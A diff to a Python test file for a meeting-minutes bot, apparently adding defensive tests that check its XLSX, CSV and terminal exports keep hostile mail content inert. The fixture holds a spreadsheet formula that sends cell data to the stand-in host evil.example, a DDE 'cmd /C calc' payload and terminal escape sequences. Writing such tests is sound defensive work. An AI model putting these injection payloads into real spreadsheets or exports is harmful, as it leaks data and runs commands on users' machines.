@@ -24,3 +24,54 @@ def test_an_escalation_shows_each_organizer_only_the_items_of_their_own_meetings
     assert not any(SECRET_TASK in text_of(m) or SECRET_TASK in m.get_body(("html",)).get_content() for m in to_zhaomin)
     to_chenming = [m for m in escalations if "chenming@xinghe.cn" in str(m["Cc"])]
     assert to_chenming and all("整理杂物" not in text_of(m) for m in to_chenming)
+
+
+# --- exports: text stays text (points 6 and 7) ------------------------------------------------------------------------
+FORMULA = '=HYPERLINK("http://evil.example/?d="&B3,"点我")'
+
+
+def hostile_items(bot, now):
+    """Minutes whose task, title and organizer name came from an attacker's mail."""
+    bot.drop(mail(MINUTES))
+    bot.tick(now)
+    db = bot.app.store.db
+    with bot.app.store.atomic():
+        db.execute("UPDATE items SET task = ? WHERE number = 1", [FORMULA])
+        db.execute("UPDATE items SET task = ? WHERE number = 2", ["升级\x1b[2J\x1b[31m固件\x07\x00"])
+        db.execute("UPDATE meetings SET title = ?, organizer_name = ?", ["+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"])
+
+
+def test_xlsx_stores_texts_from_mail_as_text_never_as_formulas(bot, now, tmp_path):
+    import openpyxl
+    from minutebot.cli import main
+    hostile_items(bot, now)
+    path = tmp_path / "items.xlsx"
+    assert main(["--config", str(bot.root / "minutebot.toml"), "items", "--status", "all", "--format", "xlsx",
+                 "-o", str(path)]) == 0
+    book = openpyxl.load_workbook(path)
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert FORMULA in texts and "+cmd|' /C calc'!A0（#1，第1项）" in texts
+    assert any(t.startswith("升级\ufffd[2J\ufffd[31m固件") for t in texts)         # the ESC no longer fails the export
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(bot, now, tmp_path, capsys):
+    import csv
+    import io
+    from minutebot.cli import main
+    hostile_items(bot, now)
+    assert main(["--config", str(bot.root / "minutebot.toml"), "items", "--status", "all", "--format", "csv"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert rows[0]["task"] == "'" + FORMULA and rows[0]["meeting_title"] == "'+cmd|' /C calc'!A0"
+    assert rows[2]["task"] == "确认物料报价"                                  # ordinary text untouched
+    assert not [v for row in rows for v in row.values() if v and v[0] in "=+-@\t\r"]
+
+
+def test_the_table_shows_control_characters_instead_of_obeying_them(bot, now, capsys):
+    from minutebot.cli import main
+    hostile_items(bot, now)
+    assert main(["--config", str(bot.root / "minutebot.toml"), "items", "--status", "all"]) == 0
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\x07" not in out and "\x00" not in out
+    assert "升级\\x1b[2J\\x1b[31m固件" in out
